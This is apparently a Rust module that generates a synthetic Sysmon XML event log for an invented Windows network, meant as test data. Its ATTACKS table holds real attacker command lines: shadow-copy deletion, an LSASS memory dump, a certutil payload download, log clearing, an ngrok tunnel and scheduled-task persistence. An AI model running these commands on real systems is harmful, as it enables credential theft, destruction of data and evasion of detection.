//! A Sysmon log as a busy network of Windows computers writes it, invented, the same in every run.
//!
//! Kinds of events, programs, people and computers are spread as unevenly as in real logs; one event in a thousand is of an
//! attack.

use super::shared::Dice;
use std::io::{self, Write};

impl Dice {
    /// Few of the first are most of the rolls.
    fn uneven(&mut self, sides: usize) -> usize {
        let (a, b) = (self.roll(sides), self.roll(sides));
        a * b / sides
    }

    fn pick<'t>(&mut self, list: &[&'t str]) -> &'t str {
        list[self.uneven(list.len())]
    }
}

/// Event id and its share in a thousand.
const KINDS: [(u16, usize); 12] = [
    (7, 230),
    (3, 180),
    (11, 150),
    (1, 130),
    (5, 80),
    (13, 70),
    (10, 60),
    (22, 50),
    (12, 30),
    (23, 10),
    (17, 6),
    (18, 4),
];

const PROGRAMS: [&str; 24] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Invented Office\writer.exe",
    r"C:\Program Files\Invented Browser\browser.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\dllhost.exe",
    r"C:\Windows\System32\SearchProtocolHost.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Program Files\Invented Backup\agent.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\System32\lsass.exe",
    r"C:\Windows\System32\spoolsv.exe",
    r"C:\Windows\System32\msiexec.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\schtasks.exe",
    r"C:\Windows\System32\reg.exe",
    r"C:\Windows\System32\net.exe",
    r"C:\Windows\System32\ipconfig.exe",
    r"C:\Windows\System32\wevtutil.exe",
];

const ARGUMENTS: [&str; 10] = [
    "-k netsvcs -p -s Schedule",
    "--type=renderer --lang=en-GB --device-scale-factor=1",
    "/c dir /b",
    "-Embedding",
    "0xffffffff -ForceV1",
    "-NoLogo -File C:\\Scripts\\inventory.ps1",
    "/processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    "/q /n",
    "-ServerName:App.AppX",
    "",
];

const ATTACKS: [(&str, &str, &str); 8] = [
    (r"C:\Windows\System32\vssadmin.exe", "delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-nop -w hidden -EncodedCommand SQBuAHYAZQBuAHQAZQBk",
        r"C:\Program Files\Invented Office\writer.exe",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        "C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Temp\\out.dmp full",
        r"C:\Windows\System32\cmd.exe",
    ),
    (r"C:\Users\Public\ngrok.exe", "tcp 3389", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\wevtutil.exe", "cl Security", r"C:\Windows\System32\cmd.exe"),
    (
        r"C:\Windows\System32\certutil.exe",
        "-urlcache -split -f http://203.0.113.9/a.exe a.exe",
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        "/create /sc minute /tn updater /tr C:\\Users\\Public\\a.exe",
        r"C:\Windows\explorer.exe",
    ),
    (r"C:\Windows\System32\net.exe", "group \"Domain Admins\" /domain", r"C:\Windows\System32\cmd.exe"),
];

/// Writes so many events, one per line.
pub(super) fn write(out: &mut dyn Write, events: usize) -> io::Result<()> {
    let mut dice = Dice(0x5EED_1234);
    for number in 0..events {
        event(out, &mut dice, number)?;
    }
    out.flush()
}

fn event(out: &mut dyn Write, dice: &mut Dice, number: usize) -> io::Result<()> {
    let attack = dice.roll(1000) == 0;
    let mut share = dice.roll(1000);
    let mut code = 1;
    if !attack {
        for (kind, of_thousand) in KINDS {
            if share < of_thousand {
                code = kind;
                break;
            }
            share -= of_thousand;
        }
    }
    let time = 1_735_800_000 + number / 50;
    let (day, hour, minute, second) = (2 + time / 86_400 % 27, time / 3600 % 24, time / 60 % 60, time % 60);
    let milli = number % 50 * 20;
    let clock = format!("{hour:02}:{minute:02}:{second:02}.{milli:03}");
    let (host, user) = (dice.uneven(400), dice.uneven(300));
    write!(
        out,
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
         <Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}'/>\
         <EventID>{code}</EventID><Version>5</Version><Level>4</Level><Task>{code}</Task><Opcode>0</Opcode>\
         <Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2025-01-{day:02}T{clock}Z'/>\
         <EventRecordID>{number}</EventRecordID><Correlation/><Execution ProcessID='2412' ThreadID='3720'/>\
         <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws{host:03}.example.test</Computer>\
         <Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data>\
         <Data Name='UtcTime'>2025-01-{day:02} {clock}</Data>",
    )?;
    let mut data = |name: &str, value: &dyn std::fmt::Display| write!(out, "<Data Name='{name}'>{value}</Data>");
    let guid =
        |serial: usize| format!("{{7C5A1E20-{:04x}-6776-{:04x}-000000003C00}}", serial >> 16 & 0xffff, serial & 0xffff);
    let (image, arguments, parent) = if attack {
        ATTACKS[dice.roll(ATTACKS.len())]
    } else {
        (dice.pick(&PROGRAMS), dice.pick(&ARGUMENTS), dice.pick(&PROGRAMS))
    };
    let name = image.rsplit('\\').next().unwrap_or_default();
    if code != 10 {
        data("ProcessGuid", &guid(number))?;
        data("ProcessId", &(dice.roll(4000) * 4))?;
        data("Image", &image)?;
    }
    match code {
        1 => {
            data("FileVersion", &"10.0.19041.1 (WinBuild.160101.0800)")?;
            data("Description", &"An invented program")?;
            data("Product", &"Invented Operating System")?;
            data("Company", &"Invented Corporation")?;
            data("OriginalFileName", &name)?;
            data("CommandLine", &format!("\"{image}\" {arguments} {}", dice.uneven(20_000)))?;
            data("CurrentDirectory", &r"C:\Windows\system32\")?;
            data("User", &format!("EXAMPLE\\user{user:03}"))?;
            data("LogonGuid", &guid(user))?;
            data("LogonId", &format!("0x{user:x}"))?;
            data("TerminalSessionId", &"1")?;
            data("IntegrityLevel", &"Medium")?;
            let hash = dice.uneven(5_000);
            data("Hashes", &format!("MD5={hash:032X},SHA256={hash:064X},IMPHASH={hash:032X}"))?;
            data("ParentProcessGuid", &guid(number / 2))?;
            data("ParentProcessId", &(dice.roll(4000) * 4))?;
            data("ParentImage", &parent)?;
            data("ParentCommandLine", &format!("\"{parent}\" {}", dice.pick(&ARGUMENTS)))?;
            data("ParentUser", &format!("EXAMPLE\\user{user:03}"))?;
        }
        3 => {
            data("User", &format!("EXAMPLE\\user{user:03}"))?;
            data("Protocol", &"tcp")?;
            data("Initiated", &"true")?;
            data("SourceIsIpv6", &"false")?;
            data("SourceIp", &format!("10.1.{}.{}", host / 250, host % 250 + 1))?;
            data("SourceHostname", &format!("ws{host:03}.example.test"))?;
            data("SourcePort", &(49_152 + dice.roll(16_000)))?;
            data("DestinationIp", &format!("203.0.113.{}", dice.uneven(250)))?;
            data("DestinationPort", &[443, 80, 53, 445, 8080][dice.uneven(5)])?;
        }
        7 => {
            data("ImageLoaded", &format!(r"C:\Windows\System32\invented{:03}.dll", dice.uneven(900)))?;
            let hash = dice.uneven(900);
            data("Hashes", &format!("MD5={hash:032X},SHA256={hash:064X},IMPHASH={hash:032X}"))?;
            data("Signed", &"true")?;
            data("Signature", &"Invented Corporation")?;
            data("SignatureStatus", &"Valid")?;
            data("User", &format!("EXAMPLE\\user{user:03}"))?;
        }
        10 => {
            data("SourceProcessGUID", &guid(number))?;
            data("SourceProcessId", &(dice.roll(4000) * 4))?;
            data("SourceImage", &image)?;
            data("TargetProcessGUID", &guid(number / 3))?;
            data("TargetImage", &dice.pick(&PROGRAMS))?;
            data("GrantedAccess", &"0x1000")?;
            data("CallTrace", &r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\KERNELBASE.dll+2bcbe")?;
        }
        11 | 23 => {
            let folder = [r"C:\Windows\Temp", r"C:\Users\Public", r"C:\ProgramData\Invented"][dice.uneven(3)];
            data("TargetFilename", &format!(r"{folder}\f{:05}.tmp", dice.uneven(60_000)))?;
            data("CreationUtcTime", &format!("2025-01-{day:02} {clock}"))?;
            data("User", &format!("EXAMPLE\\user{user:03}"))?;
        }
        12 | 13 => {
            data("EventType", &if code == 13 { "SetValue" } else { "CreateKey" })?;
            data("TargetObject", &format!(r"HKLM\SOFTWARE\Invented\Setting{:04}\Value", dice.uneven(3_000)))?;
            if code == 13 {
                data("Details", &format!("DWORD (0x{:08x})", dice.uneven(64)))?;
            }
            data("User", &format!("EXAMPLE\\user{user:03}"))?;
        }
        22 => {
            data("QueryName", &format!("name{:04}.example.net", dice.uneven(4_000)))?;
            data("QueryStatus", &"0")?;
            data("QueryResults", &format!("::ffff:203.0.113.{};", dice.uneven(250)))?;
            data("User", &format!("EXAMPLE\\user{user:03}"))?;
        }
        17 | 18 => {
            data("EventType", &if code == 17 { "CreatePipe" } else { "ConnectPipe" })?;
            data("PipeName", &format!(r"\invented{:03}", dice.uneven(200)))?;
        }
        _ => data("User", &format!("EXAMPLE\\user{user:03}"))?,
    }
    writeln!(out, "</EventData></Event>")
}
